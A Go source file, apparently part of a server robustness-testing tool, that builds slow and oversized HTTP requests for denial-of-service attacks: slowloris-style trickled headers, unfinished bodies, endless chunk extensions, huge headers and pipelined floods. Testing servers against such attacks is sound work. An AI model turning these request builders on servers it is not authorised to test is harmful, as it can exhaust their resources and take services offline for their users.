package attack

import (
	"fmt"
	"strings"
)

// mebi is the size of the largest value.
const mebi = 1 << 20

// Announce makes n requests that announce a body of 1 MiB and do not send it.
func Announce(n int, method, path, host string) Attack {
	return Send(n, fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", method, path, host, mebi))
}

// SlowBodies makes n requests whose body of 1 MiB lacks its last byte.
func SlowBodies(n int, method, path string) Attack {
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
		method, path, mebi)
	return Send(n, head+strings.Repeat(" ", mebi-1))
}

// SlowChunks makes n requests whose body arrives in chunks of 1 MiB and never ends.
func SlowChunks(n int, method, path string) Attack {
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n", method, path)
	return Send(n, head+fmt.Sprintf("%x\r\n%s", mebi, strings.Repeat(" ", mebi-1)))
}

// SlowHeaders makes n requests whose headers arrive a byte at a time.
func SlowHeaders(n int, path string) Attack {
	return Trickle(n, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\nX: ", 'x')
}

// HugeHeaders makes n requests with endless headers.
func HugeHeaders(n int, path string) Attack {
	return Flood(n, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\n", "X-Header: "+strings.Repeat("x", 4000)+"\r\n")
}

// HugeChunkExtensions makes n requests with a chunk whose extension never ends.
func HugeChunkExtensions(n int, method, path string) Attack {
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1;", method, path)
	return Flood(n, head, strings.Repeat("x", 4000))
}

// SlowReaders makes n requests and does not read the responses.
func SlowReaders(n int, request string) Attack { return Send(n, request) }

// Pipelined makes endless requests on each of n connections, and does not read the responses.
func Pipelined(n int, request string) Attack {
	return Flood(n, "", strings.Repeat(request, 1+4000/len(request)))
}

// Get returns a request.
func Get(path string) string { return "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n\r\n" }

// Post returns a request with a body in JSON.
func Post(path, body string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
		path, len(body), body)
}
